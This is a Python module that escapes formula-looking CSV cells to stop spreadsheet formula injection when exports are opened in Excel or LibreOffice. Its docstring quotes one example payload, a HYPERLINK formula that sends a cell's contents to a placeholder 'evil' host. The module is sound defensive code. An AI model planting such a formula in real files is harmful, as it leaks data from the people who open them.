"""CSV that is safe to open in a spreadsheet: formula-looking cells are written as text.

A name like `=HYPERLINK("http://evil/?"&A2,"click")` typed into Cadence would run as a formula in
Excel or LibreOffice when finance opens an export (OWASP "CSV injection"). Every CSV Cadence
writes passes its cells through `escape_cell`, which prefixes such a cell with a single quote so
the spreadsheet shows it as text. Plain numbers ("-120.50", "+3") are left alone: they are not
formulas, and finance needs them as numbers.
"""
from __future__ import annotations

import csv
import re
from typing import Any, Iterable

# OWASP's list: the four formula starters plus tab and carriage return, which some spreadsheets
# skip before looking for one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: Any) -> Any:
    """The value to write for one cell: a formula-looking string gets a leading `'`; anything
    else (numbers, dates, None, ordinary text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def escape_row(values: Iterable[Any]) -> list[Any]:
    return [escape_cell(value) for value in values]


class SafeWriter:
    """`csv.writer` whose rows are escaped; use it wherever Cadence writes a CSV."""

    def __init__(self, stream, **fmtparams) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

